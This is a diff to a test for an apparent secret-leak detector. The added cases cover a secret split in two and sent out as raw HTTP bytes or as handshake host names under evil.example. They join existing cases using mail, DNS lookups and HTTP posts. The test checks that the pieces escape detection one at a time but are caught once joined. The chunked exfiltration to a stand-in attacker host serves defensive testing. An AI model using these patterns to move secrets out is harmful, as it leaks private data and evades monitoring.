@@ -67,7 +67,11 @@ def test_a_secret_cut_over_several_acts_is_pieced_together() -> None:
     mails = [made(Channel.TOOLS, "mail", to="a@b", body=part) for part in (SECRET[:half], SECRET[half:])]
     names = [made(Channel.DNS, "resolve", name=f"{part}.evil.example") for part in (SECRET[:half], SECRET[half:])]
     posts = [made(Channel.HTTP, "request", path="/", body=part) for part in (SECRET[:half], SECRET[half:])]
-    for acts in (mails, names, posts):
+    raw = [made(Channel.HTTP, "bytes", head=part) for part in (SECRET[:half], SECRET[half:])]
+    greetings = [
+        made(Channel.HTTP, "handshake", host=f"{part}.evil.example") for part in (SECRET[:half], SECRET[half:])
+    ]
+    for acts in (mails, names, posts, raw, greetings):
         assert not any(leaked(SECRET, outbound_text(act)) for act in acts)
         assert any(leaked(SECRET, text) for text in pieced_together(acts))
 
